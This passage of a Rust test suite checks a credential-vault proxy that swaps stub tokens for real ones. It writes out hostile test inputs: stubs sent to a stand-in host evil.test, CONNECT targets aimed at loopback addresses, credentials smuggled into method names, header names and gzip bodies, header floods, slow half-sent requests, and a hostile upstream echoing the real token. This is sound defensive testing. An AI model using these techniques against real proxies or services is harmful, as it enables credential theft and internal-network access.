    // Many small headers adding up to 1 MiB.
    let many: String = (0..32 * 1024)
        .map(|i| format!("X-H{i}: {}\r\n", "b".repeat(24)))
        .collect();
    let request = format!("GET /many HTTP/1.1\r\nHost: {host}\r\n{many}\r\n");
    let answer = raw_exchange(&w, request.as_bytes()).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 431") || answer.starts_with("HTTP/1.1 400"),
        "{}",
        &answer[..answer.len().min(300)]
    );
    // A 1 MiB head on the proxy listener itself, before any CONNECT is accepted.
    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
    let connect = format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\n\r\n");
    let _ = tcp.write_all(connect.as_bytes()).await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tcp.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(w.seen().is_empty(), "{:?}", w.seen());
    // The vault still serves after all that.
    let (status, _) = w.curl(&[&w.url("api.github.test", "/after")]).await;
    assert_eq!(status, 200);
}

/// Writes `request` raw on the proxy listener itself (no tunnel) and returns the answer's head.
async fn raw_proxy(w: &World, request: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
    let _ = tcp.write_all(request.as_bytes()).await;
    let mut answer = Vec::new();
    let mut byte = [0u8; 1];
    let read_head = async {
        while !answer.ends_with(b"\r\n\r\n") && tcp.read(&mut byte).await.is_ok_and(|n| n == 1) {
            answer.push(byte[0]);
        }
    };
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), read_head).await;
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_connect_targets_are_rejected_without_a_lookup() {
    let resolver = Arc::new(FixedResolver {
        answers: Vec::new(),
        asked: Mutex::new(Vec::new()),
    });
    let w = world_resolving(&[], Some(resolver.clone())).await;
    let port = w.upstream_port;
    for target in [
        "api.github.test:0".to_owned(),
        "api.github.test:65536".to_owned(),
        format!("api.github.test:{}", u32::from(port) + 65536),
        "api.github.test".to_owned(),
        "api.github.test:".to_owned(),
        format!("user:pass@api.github.test:{port}"),
        format!("api.github.test :{port}"),
        format!("::1:{port}"),
        format!("api.github.test:{port}/path"),
    ] {
        let answer = raw_proxy(&w, &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{target:?}: {answer}");
    }
    assert!(
        resolver.asked.lock().unwrap().is_empty(),
        "{:?}",
        resolver.asked.lock().unwrap()
    );
    assert!(w.seen().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn ip_literals_and_the_proxy_itself_are_internal_destinations() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let trap_port = trap.local_addr().unwrap().port();
    let dialed = Arc::new(AtomicUsize::new(0));
    let counter = dialed.clone();
    tokio::spawn(async move {
        while trap.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    // The system resolver: IP literals never reach DNS.
    let w = world(&[]).await;
    let proxy_port = w.proxy.port();
    for target in [
        format!("127.0.0.1:{trap_port}"),
        format!("127.0.0.2:{trap_port}"),
        format!("[::1]:{trap_port}"),
        format!("[0:0::1]:{trap_port}"),
        format!("[::ffff:127.0.0.1]:{trap_port}"),
        format!("[::ffff:7f00:1]:{trap_port}"),
        format!("127.0.0.1:{proxy_port}"),
        format!("localhost:{trap_port}"),
    ] {
        let answer = raw_proxy(&w, &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{target}: {answer}");
        assert!(
            answer.contains("x-lap-vault-blocked: egress-policy"),
            "{target}: {answer}"
        );
    }
    assert_eq!(dialed.load(Ordering::SeqCst), 0, "the vault dialed an internal address");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_absolute_form_target_inside_a_tunnel_cannot_leave_it() {
    let w = world(&[]).await;
    let port = w.upstream_port;
    // The request target names evil.test, the Host header the CONNECT target: the target wins
    // (RFC 9112 §3.2.2), so it is a Host mismatch, and with a stub aboard an alert.
    for (extra, status) in [
        (String::new(), "421"),
        (format!("Authorization: Bearer {GH_STUB}\r\n"), "403"),
    ] {
        let request = format!(
            "GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n{extra}Connection: close\r\n\r\n"
        );
        let answer = raw_exchange(&w, request.as_bytes()).await;
        assert!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{answer}");
        assert!(answer.contains("evil.test"), "{answer}");
    }
    assert!(w.seen().is_empty(), "{:?}", w.seen());
}

#[tokio::test(flavor = "multi_thread")]
async fn pipelined_requests_are_each_checked_on_their_own() {
    let w = world(&[]).await;
    let host = format!("api.github.test:{}", w.upstream_port);
    let evil = format!("evil.test:{}", w.upstream_port);
    let pipelined = format!(
        "GET /one HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n\
         GET /two HTTP/1.1\r\nHost: {evil}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n\
         GET /three HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {AI_STUB}\r\n\r\n\
         GET /four HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\nConnection: close\r\n\r\n"
    );
    let answer = raw_exchange(&w, pipelined.as_bytes()).await;
    let statuses: Vec<&str> = answer
        .match_indices("HTTP/1.1 ")
        .map(|(i, _)| &answer[i + 9..i + 12])
        .collect();
    assert_eq!(statuses, ["200", "403", "403", "200"], "{answer}");
    assert!(!answer.contains(GH_REAL), "{answer}");
    let seen = w.seen();
    assert_eq!(
        seen.iter().map(|s| s.path.as_str()).collect::<Vec<_>>(),
        ["/one", "/four"]
    );
    assert_all_bearer(&seen, GH_REAL);
}

fn assert_all_bearer(seen: &[Seen], real: &str) {
    for request in seen {
        assert_eq!(
            request.header("authorization"),
            Some(format!("Bearer {real}").as_str()),
            "{request:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stub_written_one_byte_per_tls_record_is_still_swapped() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let w = world(&[]).await;
    let host = format!("api.github.test:{}", w.upstream_port);
    let body = format!("{{\"t\":\"{GH_STUB}\"}}");
    let request = format!(
        "POST /bytes HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let mut tls = raw_tunnel(&w, "api.github.test", w.upstream_port).await;
    for byte in request.as_bytes() {
        tls.write_all(&[*byte]).await.unwrap();
        tls.flush().await.unwrap();
    }
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(!answer.contains(GH_REAL), "{answer}");
    let seen = w.seen();
    assert_all_bearer(&seen, GH_REAL);
    assert_eq!(seen[0].body, format!("{{\"t\":\"{GH_REAL}\"}}").as_bytes());
}

#[tokio::test(flavor = "multi_thread")]
async fn substitution_is_one_pass_and_never_crosses_credentials() {
    const CHAIN_STUB: &str = "stub_chain_token_c4a1b2d3";
    let chain_real = format!("chain-real-holding-{GH_STUB}-inside");
    let w = world_with(
        &[],
        None,
        vec![credential(
            "CHAIN_TOKEN",
            CHAIN_STUB,
            chain_real.clone(),
            &["api.github.test"],
            &["authorization"],
        )],
    )
    .await;
    let url = w.url("api.github.test", "/chain");
    let (status, output) = w
        .curl(&["-H", &format!("Authorization: Bearer {CHAIN_STUB}"), &url])
        .await;
    assert_eq!(status, 200, "{output}");
    assert_all_bearer(&w.seen(), &chain_real);
    assert!(!output.contains(GH_REAL), "{output}");
    assert!(output.contains(&format!("auth=Bearer {CHAIN_STUB}")), "{output}");
    // Credential A's stub toward a host bound only to credential B: refused, not swapped for either.
    let openai = w.url("api.openai.test", "/cross");
    let (status, output) = w
        .curl(&["-H", &format!("Authorization: Bearer {GH_STUB}"), &openai])
        .await;
    assert_eq!(status, 403, "{output}");
    assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
    assert_eq!(w.seen().len(), 1);
}

/// Reads until the peer closes (true) or `limit` passes (false).
async fn closed_within<S: tokio::io::AsyncRead + Unpin>(stream: &mut S, limit: std::time::Duration) -> bool {
    use tokio::io::AsyncReadExt;
    let mut sink = Vec::new();
    tokio::time::timeout(limit, stream.read_to_end(&mut sink)).await.is_ok()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_head_sent_slowly_is_cut_off_at_a_bounded_deadline() {
    use lap::vault::intercept::HEADER_READ_TIMEOUT;
    use tokio::io::AsyncWriteExt;
    let w = world(&[]).await;
    let limit = HEADER_READ_TIMEOUT * 2 + std::time::Duration::from_secs(5);
    let started = std::time::Instant::now();
    // On the proxy listener: half a CONNECT line, then nothing.
    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
    tcp.write_all(b"CONNECT api.github.te").await.unwrap();
    // Inside a tunnel: half a request head, with a stub, then nothing.
    let mut tls = raw_tunnel(&w, "api.github.test", w.upstream_port).await;
    let partial = format!("GET /slow HTTP/1.1\r\nAuthorization: Bearer {GH_STUB}\r\nX-Slow: ");
    tls.write_all(partial.as_bytes()).await.unwrap();
    tls.flush().await.unwrap();
    let (listener, tunnel) = tokio::join!(closed_within(&mut tcp, limit), closed_within(&mut tls, limit));
    assert!(
        listener,
        "the proxy listener kept a half-sent CONNECT open for {limit:?}"
    );
    assert!(tunnel, "the tunnel kept a half-sent request head open for {limit:?}");
    assert!(
        started.elapsed() >= HEADER_READ_TIMEOUT / 2,
        "closed too early to be the timeout"
    );
    assert!(w.seen().is_empty());
}

/// Serves TLS with one fixed certificate and counts the application bytes it receives.
async fn fixed_cert_upstream(key: Arc<rustls::sign::CertifiedKey>, bytes: Arc<std::sync::atomic::AtomicUsize>) -> u16 {
    use tokio::io::AsyncReadExt;
    #[derive(Debug)]
    struct Fixed(Arc<rustls::sign::CertifiedKey>);
    impl rustls::server::ResolvesServerCert for Fixed {
        fn resolve(&self, _: rustls::server::ClientHello<'_>) -> Option<Arc<rustls::sign::CertifiedKey>> {
            Some(self.0.clone())
        }
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_cert_resolver(Arc::new(Fixed(key)));
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, bytes) = (acceptor.clone(), bytes.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let mut buf = [0u8; 4096];
                while let Ok(n) = tls.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    bytes.fetch_add(n, std::sync::atomic::Ordering::SeqCst);
                }
            });
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread")]
async fn an_upstream_that_fails_verification_never_receives_a_byte_of_the_request() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    // A self-signed certificate for the right name, and a trusted one for the wrong name.
    let self_signed = rcgen::generate_simple_self_signed(vec!["api.github.test".to_owned()]).unwrap();
    let key = rustls_pki_types::PrivateKeyDer::Pkcs8(self_signed.signing_key.serialize_der().into());
    let self_signed = Arc::new(rustls::sign::CertifiedKey::new(
        vec![self_signed.cert.der().clone()],
        rustls::crypto::ring::sign::any_supported_type(&key).unwrap(),
    ));
    let bytes = Arc::new(AtomicUsize::new(0));
    let ports = [
        fixed_cert_upstream(self_signed, bytes.clone()).await,
        fixed_cert_upstream(public_ca.leaf("other.test").unwrap(), bytes.clone()).await,
    ];
    let (proxy, ca_file, binding, _stop) = vault_before(dir.path(), &public_ca, &ports).await;
    for port in ports {
        let url = format!("https://api.github.test:{port}/identity");
        let auth = format!("Authorization: Bearer {GH_STUB}");
        let (status, output) = support::upstream::curl(proxy, &ca_file, &["-H", &auth, &url]).await;
        assert_eq!(status, 502, "{port}: {output}");
        assert!(!output.contains(GH_REAL), "{output}");
    }
    assert_eq!(
        bytes.load(Ordering::SeqCst),
        0,
        "an unverified upstream received request bytes"
    );
    assert!(!format!("{:?}", binding.audit.recent()).contains(GH_REAL));
}

/// gzip of `data`, by the system's `gzip`.
fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = std::process::Command::new("gzip")
        .arg("-c")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("gzip");
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().unwrap().stdout
}

/// An upstream that ignores `Accept-Encoding: identity` and answers with the request's
/// `Authorization`, gzipped.
async fn gzip_echo_upstream(ca: Arc<CertificateAuthority>) -> u16 {
    use http_body_util::Full;
    use hyper::body::Bytes;
    let (listener, port, acceptor) = support::upstream::tls_listener(ca, &[]).await;
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else { return };
                let service = hyper::service::service_fn(|req: hyper::Request<hyper::body::Incoming>| async move {
                    let auth = req
                        .headers()
                        .get("authorization")
                        .map(|v| v.as_bytes().to_vec())
                        .unwrap_or_default();
                    let mut echo = b"{\"you_sent\":\"".to_vec();
                    echo.extend_from_slice(&auth);
                    echo.extend_from_slice(b"\"}");
                    let response = hyper::Response::builder()
                        .header("content-type", "application/json")
                        .header("content-encoding", "gzip")
                        .body(Full::new(Bytes::from(gzip(&echo))))
                        .unwrap();
                    Ok::<_, std::convert::Infallible>(response)
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread")]
async fn a_compressed_response_that_could_hide_a_real_value_is_not_passed_unscrubbed() {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    let port = gzip_echo_upstream(public_ca.clone()).await;
    let (proxy, ca_file, _binding, _stop) = vault_before(dir.path(), &public_ca, &[port]).await;
    let url = format!("https://api.github.test:{port}/echo");
    let auth = format!("Authorization: Bearer {GH_STUB}");
    for version in ["--http1.1", "--http2"] {
        let (status, output) =
            support::upstream::curl(proxy, &ca_file, &[version, "--compressed", "-H", &auth, &url]).await;
        assert!(
            !output.contains(GH_REAL),
            "a gzipped echo carried the real value out: {output}"
        );
        // Decoded, scrubbed and passed on decoded: the echo holds the stub.
        assert_eq!(status, 200, "{output}");
        assert!(output.contains(GH_STUB), "{output}");
        assert!(!output.to_ascii_lowercase().contains("content-encoding"), "{output}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_headers_over_http2_are_refused_and_the_upstream_is_untouched() {
    use http_body_util::Empty;
    let w = world(&[]).await;
    let tls = raw_tunnel_offering(&w, "api.github.test", w.upstream_port, b"h2").await;
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    // 60 KiB of headers: over the vault's HTTP/2 header-list limit. (hyper's client sends them
    // regardless, where curl sometimes gives up first.)
    let request = hyper::Request::get(format!("https://api.github.test:{}/big", w.upstream_port))
        .header("authorization", format!("Bearer {GH_STUB}"))
        .header("x-big", "a".repeat(60 * 1024))
        .body(Empty::<hyper::body::Bytes>::new())
        .unwrap();
    let response = sender.send_request(request).await.expect("the vault answers");
    assert_eq!(response.status(), 431);
    assert!(w.seen().is_empty(), "{:?}", w.seen().len());
    let (status, _) = w.curl(&["--http2", &w.url("api.github.test", "/after")]).await;
    assert_eq!(status, 200, "the vault still serves");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stray_stub_split_across_two_frames_of_a_streamed_body_is_still_caught() {
    use http_body_util::StreamBody;
    use hyper::body::{Bytes, Frame};
    let w = world(&[]).await;
    let tls = raw_tunnel(&w, "evil.test", w.upstream_port).await;
    let (mut sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    let (head, tail) = GH_STUB.split_at(GH_STUB.len() / 2);
    let frames = vec![
        Ok::<_, std::convert::Infallible>(Frame::data(Bytes::from(format!("{}{head}", "x".repeat(70_000))))),
        Ok(Frame::data(Bytes::from(format!("{tail} and more")))),
    ];
    let request = hyper::Request::post("/collect")
        .header("host", format!("evil.test:{}", w.upstream_port))
        .body(StreamBody::new(futures_util::stream::iter(frames)))
        .unwrap();
    let response = sender.send_request(request).await.unwrap();
    assert_eq!(response.status(), 403);
    assert_eq!(response.headers()["x-lap-vault-blocked"], "credential-not-bound");
    assert!(
        w.seen().is_empty(),
        "the upstream completed a request: {:?}",
        w.seen().len()
    );
}

/// A vault in front of upstreams on `ports` (each named `api.github.test`, pinned to 127.0.0.1) that
/// trusts `public_ca`, with `GITHUB_TOKEN` bound to `api.github.test`. Returns the proxy's address, the
/// vault CA's PEM file, the binding (its audit log), and a guard that stops the vault.
async fn vault_before(
    dir: &std::path::Path,
    public_ca: &CertificateAuthority,
    ports: &[u16],
) -> (
    SocketAddr,
    std::path::PathBuf,
    Arc<Binding>,
    tokio_util::sync::DropGuard,
) {
    vault_idle_after(dir, public_ca, ports, lap::vault::intercept::IDLE_TIMEOUT).await
}

/// [`vault_before`], closing connections idle for `idle`.
async fn vault_idle_after(
    dir: &std::path::Path,
    public_ca: &CertificateAuthority,
    ports: &[u16],
    idle: std::time::Duration,
) -> (
    SocketAddr,
    std::path::PathBuf,
    Arc<Binding>,
    tokio_util::sync::DropGuard,
) {
    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.join("vault")).unwrap());
    let loopback = "127.0.0.1".parse().unwrap();
    let resolve = ports
        .iter()
        .map(|&port| ResolveOverride {
            host: "api.github.test".into(),
            port,
            addr: loopback,
        })
        .collect();
    let root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
    let vault = Arc::new(
        Vault::new(vault_ca.clone(), resolve, vec![root])
            .unwrap()
            .with_idle_timeout(idle),
    );
    let github = credential(
        "GITHUB_TOKEN",
        GH_STUB,
        GH_REAL,
        &["api.github.test"],
        &["authorization"],
    );
    let binding = Arc::new(Binding::new(vec![github], Policy::new(&[], &[])));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = listener.local_addr().unwrap();
    let stop = CancellationToken::new();
    tokio::spawn(vault.serve(listener, binding.clone(), stop.clone()));
    let ca_file = dir.join("vault-ca.pem");
    std::fs::write(&ca_file, vault_ca.cert_pem()).unwrap();
    (proxy, ca_file, binding, stop.drop_guard())
}

// ---- Injection points and rules (issue 14, points 1-2) ----

#[tokio::test(flavor = "multi_thread")]
async fn a_bound_stub_outside_its_injection_points_is_refused_before_anything_goes_upstream() {
    let w = world(&[]).await;
    // OPENAI_API_KEY is bound to *.openai.test and may only go in `Authorization`.
    let url = |path: &str| w.url("api.openai.test", path);
    let other = format!("X-Other: {AI_STUB}");
    let digest = format!("Authorization: Digest {AI_STUB}");
    let (plain, stub_path, stub_query) = (
        url("/v1"),
        url(&format!("/v1/{AI_STUB}")),
        url(&format!("/v1?q={AI_STUB}")),
    );
    let body = format!("{{\"key\":\"{AI_STUB}\"}}");
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (vec!["--data", &body, &plain], "the request body"),
        (vec!["-H", &other, &plain], "the `x-other` header"),
        (vec!["-H", &digest, &plain], "the Authorization header"),
        (vec![&stub_path], "the request path"),
        (vec![&stub_query], "the query parameter `q`"),
    ];
    for version in ["--http1.1", "--http2"] {
        for (args, place) in &cases {
            let (status, output) = w.curl(&[&[version][..], args].concat()).await;
            assert_eq!(status, 403, "{args:?}: {output}");
            assert!(
                output.contains("x-lap-vault-blocked: credential-not-injectable"),
                "{output}"
            );
            assert!(
                output.contains(&format!("the stub of OPENAI_API_KEY is in {place}")),
                "{output}"
            );
            assert!(output.contains("it may only be sent in: authorization"), "{output}");
            let record = w.binding.audit.recent().pop().unwrap();
            assert!(record.alert, "{record:?}");
            assert_eq!(record.block_kind.as_deref(), Some("credential-not-injectable"));
        }
    }
    assert!(w.seen().is_empty(), "the upstream was reached: {:?}", w.seen());
    // At its injection point it is swapped as always.
    let (status, output) = w
        .curl(&["-H", &format!("Authorization: Bearer {AI_STUB}"), &plain])
        .await;
    assert_eq!(status, 200, "{output}");
    assert_eq!(
        w.seen()[0].header("authorization"),
        Some(format!("Bearer {AI_REAL}").as_str())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_outside_a_credentials_rules_is_refused() {
    const RULED_STUB: &str = "stub_ruled_token_5e5e5e5e";
    let ruled = Credential {
        rules: vec!["GET /allowed/**".parse().unwrap()],
        ..credential(
            "RULED_TOKEN",
            RULED_STUB,
            "ruled-real-value-0000",
            &["api.github.test"],
            &["authorization"],
        )
    };
    let w = world_with(&[], None, vec![ruled]).await;
    let auth = format!("Authorization: Bearer {RULED_STUB}");
    for (args, status_wanted) in [(vec!["-H", &auth, "-X", "DELETE"], 403), (vec!["-H", &auth], 200)] {
        for path in ["/other/x", "/allowed/x"] {
            let url = w.url("api.github.test", path);
            let (status, output) = w.curl(&[&args[..], &[url.as_str()]].concat()).await;
            let allowed = path == "/allowed/x" && status_wanted == 200;
            assert_eq!(status, if allowed { 200 } else { 403 }, "{args:?} {path}: {output}");
            if !allowed {
                assert!(output.contains("x-lap-vault-blocked: credential-rule"), "{output}");
                assert!(output.contains("GET /allowed/**"), "{output}");
            }
        }
    }
    let seen = w.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].path, "/allowed/x");
}

// ---- The proxy's own gaps (issue 14, hostile-agent sweep) ----

#[tokio::test(flavor = "multi_thread")]
async fn stubs_reach_no_unbound_host_as_method_header_name_basic_over_http_or_inside_gzip() {
    let w = world(&[]).await;
    let openai = w.url("api.openai.test", "/x");
    let named = format!("{GH_STUB}: 1");
    let basic = format!("x:{GH_STUB}");
    let plain = format!("http://plain.test:{}/x", w.plain_port);
    let gz = w._dir.path().join("body.gz");
    std::fs::write(&gz, gzip(format!("{{\"t\":\"{GH_STUB}\"}}").as_bytes())).unwrap();
    let gz_arg = format!("@{}", gz.display());
    let evil = w.url("evil.test", "/x");
    for (args, kind) in [
        (vec!["-X", GH_STUB, openai.as_str()], "credential-not-bound"),
        (vec!["-H", named.as_str(), openai.as_str()], "credential-not-bound"),
        (vec!["-u", basic.as_str(), plain.as_str()], "credential-not-bound"),
        (
            vec![
                "-H",
                "Content-Encoding: gzip",
                "--data-binary",
                gz_arg.as_str(),
                evil.as_str(),
            ],
            "credential-not-bound",
        ),
    ] {
        let (status, output) = w.curl(&args).await;
        assert_eq!(status, 403, "{args:?}: {output}");
        assert!(
            output.contains(&format!("x-lap-vault-blocked: {kind}")),
            "{args:?}: {output}"
        );
    }
    assert!(w.seen().is_empty(), "{:?}", w.seen());
    let alerts = w.binding.audit.recent().iter().filter(|r| r.alert).count();
    assert_eq!(alerts, 4, "the stub inside the gzip body is an alert too");
}

#[tokio::test(flavor = "multi_thread")]
async fn range_requests_are_sent_whole_so_the_response_is_scrubbed() {
    let w = world(&[]).await;
    let url = w.url("api.github.test", "/stored");
    let (status, output) = w
        .curl(&[
            "-r",
            "3-9",
            "-H",
            "If-Range: \"v1\"",
            "-H",
            &format!("Authorization: Bearer {GH_STUB}"),
            &url,
        ])
        .await;
    assert_eq!(status, 200, "{output}");
    let seen = w.seen();
    assert!(seen[0].header("range").is_none(), "{seen:?}");
    assert!(seen[0].header("if-range").is_none(), "{seen:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_trailing_dot_names_the_same_host_for_binding_pins_and_host() {
    // Nothing is resolved by name here: a dotted name that missed the pin would fail, not leave.
    let resolver = Arc::new(FixedResolver {
        answers: Vec::new(),
        asked: Mutex::new(Vec::new()),
    });
    let w = world_resolving(&[], Some(resolver.clone())).await;
    let mut tls = raw_tunnel(&w, "api.github.test.", w.upstream_port).await;
    let request = format!(
        "GET /dot HTTP/1.1\r\nHost: API.github.test.:{}\r\nAuthorization: Bearer {GH_STUB}\r\nConnection: close\r\n\r\n",
        w.upstream_port
    );
    let answer = exchange_on(&mut tls, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(!answer.contains(GH_REAL), "{answer}");
    assert!(
        resolver.asked.lock().unwrap().is_empty(),
        "the dotted name was looked up"
    );
    assert_eq!(
        w.seen()[0].header("authorization"),
        Some(format!("Bearer {GH_REAL}").as_str())
    );
    assert_eq!(w.binding.audit.recent().pop().unwrap().host, "api.github.test");
}

/// Writes `request` on `tls` and reads until the vault closes it (or 10 s pass).
async fn exchange_on<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(tls: &mut S, request: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    tls.write_all(request).await.unwrap();
    tls.flush().await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// A TLS upstream (http/1.1 only) that answers each request with the raw bytes `answer` makes of its
/// path and `Authorization` value, then closes: a hostile server, free to break the rules hyper keeps.
async fn raw_upstream(ca: Arc<CertificateAuthority>, answer: fn(&str, &str) -> Vec<u8>) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (listener, port, acceptor) = support::upstream::tls_listener(ca, &[b"http/1.1"]).await;
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let mut head = Vec::new();
                while !head.ends_with(b"\r\n\r\n") {
                    match tls.read_u8().await {
                        Ok(byte) => head.push(byte),
                        Err(_) => return,
                    }
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
                let auth = head
                    .lines()
                    .find_map(|l| {
                        l.strip_prefix("authorization: ")
                            .or_else(|| l.strip_prefix("Authorization: "))
                    })
                    .unwrap_or_default()
                    .to_owned();
                let _ = tls.write_all(&answer(&path, &auth)).await;
                let _ = tls.shutdown().await;
            });
        }
    });
    port
}

/// What the hostile upstream answers, by path; `auth` is the (real) `Authorization` it received.
fn hostile_answer(path: &str, auth: &str) -> Vec<u8> {
    let token = auth.strip_prefix("Bearer ").unwrap_or(auth);
    match path {
        "/reason" => format!("HTTP/1.1 200 {auth}\r\ncontent-length: 2\r\n\r\nok").into_bytes(),
        "/header-name" => format!("HTTP/1.1 200 OK\r\nx-{token}: 1\r\ncontent-length: 2\r\n\r\nok").into_bytes(),
        "/gzip-chunked" => {
            let gz = gzip(auth.as_bytes());
            let mut out = format!(
                "HTTP/1.1 200 OK\r\ntransfer-encoding: gzip, chunked\r\n\r\n{:x}\r\n",
                gz.len()
            )
            .into_bytes();
            out.extend_from_slice(&gz);
            out.extend_from_slice(b"\r\n0\r\n\r\n");
            out
        }
        "/streamed" => {
            let body = format!("you sent {auth}");
            format!(
                "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
                body.len()
            )
            .into_bytes()
        }
        "/ws" => format!(
            "HTTP/1.1 401 Unauthorized\r\ncontent-length: {}\r\n\r\n{auth}",
            auth.len()
        )
        .into_bytes(),
        _ => b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n".to_vec(),
    }
}

/// A vault in front of the hostile upstream; GITHUB_TOKEN is bound to api.github.test.
async fn hostile() -> (
    SocketAddr,
    std::path::PathBuf,
    Arc<Binding>,
    u16,
    tempfile::TempDir,
    tokio_util::sync::DropGuard,
) {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    let port = raw_upstream(public_ca.clone(), hostile_answer).await;
    let (proxy, ca_file, binding, stop) = vault_before(dir.path(), &public_ca, &[port]).await;
    (proxy, ca_file, binding, port, dir, stop)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_upstreams_reason_phrase_header_names_and_compressed_transfer_never_carry_a_real_value() {
    let (proxy, ca_file, binding, port, _dir, _stop) = hostile().await;
    let auth = format!("Authorization: Bearer {GH_STUB}");
    let url = |path: &str| format!("https://api.github.test:{port}{path}");
    let (status, output) = support::upstream::curl(proxy, &ca_file, &["--http1.1", "-H", &auth, &url("/reason")]).await;
    assert_eq!(status, 200, "{output}");
    assert!(!output.contains(GH_REAL), "{output}");
